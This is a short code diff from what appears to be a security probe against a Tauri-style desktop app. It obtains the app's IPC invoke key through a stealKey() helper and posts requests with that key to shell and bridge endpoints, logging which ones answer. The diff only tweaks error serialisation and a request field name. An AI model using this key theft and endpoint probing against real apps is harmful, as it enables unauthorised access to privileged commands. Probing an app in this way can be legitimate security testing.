@@ -41,7 +41,7 @@ const answered = async (call) => {
   try {
     return `answered ${JSON.stringify(await Promise.race([call, nothing()])) ?? "nothing"}`.slice(0, 200);
   } catch (error) {
-    return `refused: ${typeof error === "string" ? error : words(error)}`;
+    return `refused: ${typeof error === "string" ? error : JSON.stringify(error)}`;
   }
 };
 
@@ -61,7 +61,7 @@ const everyCommand = async (commands) => {
 const byScheme = async () => {
   const key = await stealKey();
   const headers = { "Tauri-Invoke-Key": key, "Tauri-Callback": "1", "Tauri-Error": "2", "Content-Type": "application/json" };
-  const request = JSON.stringify({ request: { kind: "state" } });
+  const request = JSON.stringify({ request: { op: "state" } });
   const results = {};
   for (const url of ["ipc://localhost/shell", "ipc://localhost/bridge", "http://ipc.localhost/shell", "tauri://localhost/shell", "cocoapp://main/shell"]) {
     results[`post ${url}`] = await answered(pageFetch(url, { method: "POST", headers, body: request }).then((answer) => answer.text()));
